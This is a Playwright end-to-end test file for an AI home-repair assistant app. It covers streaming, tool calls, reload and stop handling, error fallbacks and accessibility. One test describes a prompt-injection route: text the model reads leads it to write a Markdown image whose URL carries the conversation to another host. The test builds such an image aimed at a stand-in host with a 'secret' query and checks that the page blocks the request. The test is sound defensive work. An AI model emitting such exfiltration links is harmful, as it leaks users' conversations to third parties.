import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Page } from '@playwright/test';
import { exfiltrationQuestion, heldQuestion, paintQuestion } from '../helpers/server/model-scripts';
import { signUpViaApi } from '../helpers/e2e/accounts';
import { modelAppUrl, releaseHeldReplies, setFakeModelMode } from '../helpers/e2e/ports';

// These journeys run against the app configured with a (fake) OpenAI-compatible model server:
// its scripted conversations (tool calls, a reply with an outside image) and its failures. One
// file, run in order, because the failures switch the shared server's mode (even off).
test.use({ baseURL: modelAppUrl });
test.describe.configure({ mode: 'serial' });

test.afterAll(async () => {
  await setFakeModelMode('ok');
});

async function ask(page: Page, text: string) {
  const input = page.getByLabel('Describe your project or ask a question');
  await input.fill(text);
  await input.press('Enter');
}

test('a model that streams works end to end', async ({ page }) => {
  await setFakeModelMode('ok');
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.goto('/dashboard');
  await ask(page, 'How do I fix a dripping faucet?');
  await expect(page.getByText('Swap the cartridge', { exact: true })).toBeVisible({
    timeout: 15_000,
  });
});

// The model reads an entry, uses our paint calculator and records the project through tool
// calls streamed over HTTP.
test('a model reply shows its sources, our calculator’s numbers and the recorded project', async ({
  page,
}) => {
  await setFakeModelMode('ok');
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.goto('/dashboard');
  await expect(page.locator('html[data-hydrated]')).toBeAttached();
  await ask(page, paintQuestion);

  const conversation = page.getByRole('list', { name: 'Conversation' });
  await expect(conversation.getByRole('heading', { name: 'Paint a bedroom' })).toBeVisible();
  await expect(conversation.getByText('Worked out with Fixwise calculators')).toBeVisible();
  await expect(conversation.getByText('3 gallons')).toBeVisible();

  const sources = conversation.getByRole('region', { name: 'Sources' });
  await expect(
    sources.getByText('Caulk Baseboards and Interior Trim Before Painting'),
  ).toBeVisible();

  const panel = page.getByRole('complementary', { name: 'Project panel' });
  await expect(panel.getByText('Interior paint')).toBeVisible();

  // Stored with the reply: a reload shows the same sources.
  await page.reload();
  await expect(
    page
      .getByRole('list', { name: 'Conversation' })
      .getByRole('region', { name: 'Sources' })
      .getByText('Caulk Baseboards and Interior Trim Before Painting'),
  ).toBeVisible();
});

// Text a model read (an attached document) can make it write an image whose address carries
// the conversation elsewhere. The reply renderer shows no such image, and the page's img-src
// refuses other hosts even if something did put one in the page.
test('a reply’s Markdown image to another host fetches nothing', async ({ page }) => {
  const elsewhere: string[] = [];
  const answered: string[] = [];
  const refused: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('elsewhere.example')) elsewhere.push(request.url());
  });
  page.on('response', (response) => {
    if (response.url().includes('elsewhere.example')) answered.push(response.url());
  });
  page.on('requestfailed', (request) => {
    if (request.url().includes('elsewhere.example')) refused.push(request.failure()!.errorText);
  });
  await setFakeModelMode('ok');
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.goto('/dashboard');
  await expect(page.locator('html[data-hydrated]')).toBeAttached();
  await ask(page, exfiltrationQuestion);

  const conversation = page.getByRole('list', { name: 'Conversation' });
  await expect(conversation.getByText('[image: x]')).toBeVisible();
  await expect(conversation.locator('img[src*="elsewhere"]')).toHaveCount(0);
  expect(elsewhere).toEqual([]);

  // Were an image element to get into the page anyway, the policy stops its request before it
  // leaves the browser.
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) =>
          resolve(`${event.violatedDirective} ${event.blockedURI}`),
        );
        setTimeout(() => resolve('no policy violation'), 5000);
        const img = document.createElement('img');
        img.src = 'https://elsewhere.example/p.png?d=secret';
        document.body.append(img);
      }),
  );
  expect(blocked).toBe('img-src https://elsewhere.example/p.png?d=secret');
  await expect.poll(() => refused).toEqual(['csp']);
  expect(answered).toEqual([]);
});

const FALLBACK =
  "Sorry, I'm having trouble connecting to my AI brain right now. Please try again in a moment!";

/** The failed question stays in the conversation, answered by the fallback bubble and Retry. */
// The model holds this reply after its first words until the test releases it: the page is
// reloaded while the reply is half written, which ends the request that was streaming it.
test('a reload mid-answer shows the reply so far, "Still writing…", then the whole reply', async ({
  page,
}) => {
  await setFakeModelMode('ok');
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.goto('/dashboard');
  await ask(page, heldQuestion);
  const conversation = page.getByRole('list', { name: 'Conversation' });
  await expect(conversation.getByText('Plan for a weekend')).toBeVisible({ timeout: 15_000 });
  await expect(page).toHaveURL(/[?&]conversation=[0-9a-f-]{36}/);

  await page.reload();
  await expect(conversation.getByText('Plan for a weekend')).toBeVisible();
  await expect(
    conversation.getByRole('status').filter({ hasText: 'Still writing…' }),
  ).toBeVisible();
  await expect(conversation.getByRole('button', { name: 'Regenerate' })).toHaveCount(0);

  await releaseHeldReplies();
  await expect(conversation.getByText('Brush on three thin coats of polyurethane')).toBeVisible({
    timeout: 15_000,
  });
  await expect(conversation.getByText('Still writing…')).toHaveCount(0);
  await expect(conversation.getByText(heldQuestion, { exact: true })).toHaveCount(1);
  await expect(conversation.getByText(FALLBACK)).toHaveCount(0);
  await expect(conversation.getByText('This reply was cut off.')).toHaveCount(0);
  // Stored whole: another reload shows the same complete reply, once.
  await page.reload();
  await expect(conversation.getByText('Brush on three thin coats of polyurethane')).toBeVisible();
  await expect(conversation.getByText(heldQuestion, { exact: true })).toHaveCount(1);
  await expect(conversation.getByRole('button', { name: 'Regenerate' })).toBeVisible();
});

test('Stop ends a reply on the server too: after a reload it is still cut where it stopped', async ({
  page,
}) => {
  await setFakeModelMode('ok');
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.goto('/dashboard');
  await ask(page, heldQuestion);
  const conversation = page.getByRole('list', { name: 'Conversation' });
  await expect(conversation.getByText('Plan for a weekend')).toBeVisible({ timeout: 15_000 });
  await expect(page).toHaveURL(/[?&]conversation=[0-9a-f-]{36}/);
  const stopped = page.waitForResponse((response) =>
    new URL(response.url()).pathname.startsWith('/api/assistant/stop/'),
  );
  await page.getByRole('button', { name: 'Stop' }).click();
  expect((await stopped).status()).toBe(200);
  await expect(conversation.getByText('You stopped this reply.')).toBeVisible();

  // The model would go on; the server stops reading it.
  await releaseHeldReplies();
  await page.reload();
  await expect(conversation.getByText('This reply was cut off.')).toBeVisible();
  await expect(conversation.getByText('Still writing…')).toHaveCount(0);
  await expect(conversation.getByText('Brush on three thin coats of polyurethane')).toHaveCount(0);
  await expect(conversation.getByText(heldQuestion, { exact: true })).toHaveCount(1);
});

async function expectFallbackFor(page: Page, question: string) {
  const conversation = page.getByRole('list', { name: 'Conversation' });
  await expect(conversation.getByText(FALLBACK)).toBeVisible({ timeout: 15_000 });
  // With no reply coming, what to do in an emergency is still on the screen.
  await expect(
    conversation.getByText(/If something is dangerous right now .* get everyone out and call 911/),
  ).toBeVisible();
  await expect(conversation.getByText(question, { exact: true })).toHaveCount(1);
  await expect(page.getByRole('button', { name: 'Retry' })).toBeEnabled();
}

test('a model that rejects our key: AI Service Error, the fallback bubble, Retry answers', async ({
  page,
}) => {
  await setFakeModelMode('unauthorized');
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.goto('/dashboard');
  await ask(page, 'How do I regrout tile?');
  await expect(page.getByText('AI Service Error')).toBeVisible();
  await expect(
    page.getByText('Unable to get AI response: The AI service refused our credentials.'),
  ).toBeVisible();
  await expectFallbackFor(page, 'How do I regrout tile?');

  // The stored question opened its conversation; after a reload it still shows the fallback.
  await expect(page).toHaveURL(/conversation=/);
  await page.reload();
  await expectFallbackFor(page, 'How do I regrout tile?');

  await setFakeModelMode('ok');
  await page.getByRole('button', { name: 'Retry' }).click();
  const conversation = page.getByRole('list', { name: 'Conversation' });
  await expect(conversation.getByText('Swap the cartridge', { exact: true })).toBeVisible({
    timeout: 15_000,
  });
  await expect(conversation.getByText(FALLBACK)).toHaveCount(0);
  await expect(conversation.getByText('How do I regrout tile?', { exact: true })).toHaveCount(1);
  // Stored once: a reload shows the same single question and its answer.
  await page.reload();
  await expect(conversation.getByText('Swap the cartridge', { exact: true })).toBeVisible({
    timeout: 15_000,
  });
  await expect(conversation.getByText('How do I regrout tile?', { exact: true })).toHaveCount(1);
});

test('a model that hangs past the time-out: the fallback bubble', async ({ page }) => {
  await setFakeModelMode('hang');
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.goto('/dashboard');
  await ask(page, 'How do I stain a deck?');
  await expectFallbackFor(page, 'How do I stain a deck?');
});

test('a model server that refuses connections: Connection Error and the fallback bubble', async ({
  page,
}) => {
  await setFakeModelMode('refuse');
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.goto('/dashboard');
  await ask(page, 'How do I hang a door?');
  await expect(page.getByText('Connection Error')).toBeVisible({ timeout: 15_000 });
  await expect(
    page.getByText(
      'Unable to connect to the AI service. Please check your internet connection and try again.',
    ),
  ).toBeVisible();
  await expectFallbackFor(page, 'How do I hang a door?');
});

for (const width of [1440, 1000, 390]) {
  test(`the browser losing the network at ${width} px: fallback bubble, Retry once it is back`, async ({
    page,
  }, testInfo) => {
    await page.setViewportSize({ width, height: 900 });
    await setFakeModelMode('ok');
    await signUpViaApi(page.context().request, modelAppUrl);
    await page.goto('/dashboard');
    await page.route('**/api/assistant', (route) => route.abort('connectionrefused'));
    await ask(page, 'How do I hang a shelf?');
    await expect(page.getByText('Connection Error')).toBeVisible();
    await expectFallbackFor(page, 'How do I hang a shelf?');
    await page.screenshot({ path: testInfo.outputPath(`fallback-${width}.png`) });
    const axe = await new AxeBuilder({ page }).analyze();
    expect(axe.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(' ')}`)).toEqual(
      [],
    );

    await page.unroute('**/api/assistant');
    await page.getByRole('button', { name: 'Retry' }).click();
    const conversation = page.getByRole('list', { name: 'Conversation' });
    await expect(conversation.getByText('Swap the cartridge', { exact: true })).toBeVisible({
      timeout: 15_000,
    });
    await expect(conversation.getByText('How do I hang a shelf?', { exact: true })).toHaveCount(1);
  });
}

test('a failed project list says so and offers Retry instead of "No projects yet"', async ({
  page,
}) => {
  await setFakeModelMode('ok');
  await signUpViaApi(page.context().request, modelAppUrl);
  await page.route('**/api/conversations', (route) =>
    route.fulfill({ status: 503, json: { error: 'The service is temporarily unavailable.' } }),
  );
  await page.goto('/dashboard');
  const panel = page.getByRole('region', { name: 'Your Projects' });
  await expect(panel.getByRole('alert')).toContainText('Failed to load conversations');
  await expect(panel.getByText('No projects yet')).toHaveCount(0);
  // The error toast slides in; contrast is judged on what the user reads once it is there and
  // has settled (its code loads with the first toast, so it may arrive after the panel's alert).
  await expect(
    page.getByRole('region', { name: /Notifications/ }).getByText('Failed to load conversations'),
  ).toBeVisible();
  await page.waitForFunction(() =>
    document.getAnimations().every((animation) => animation.playState !== 'running'),
  );
  const axe = await new AxeBuilder({ page }).analyze();
  expect(axe.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target).join(' ')}`)).toEqual(
    [],
  );

  await page.unroute('**/api/conversations');
  await panel.getByRole('button', { name: 'Retry' }).click();
  await expect(panel.getByText('No projects yet')).toBeVisible();
  await expect(panel.getByRole('alert')).toHaveCount(0);
});
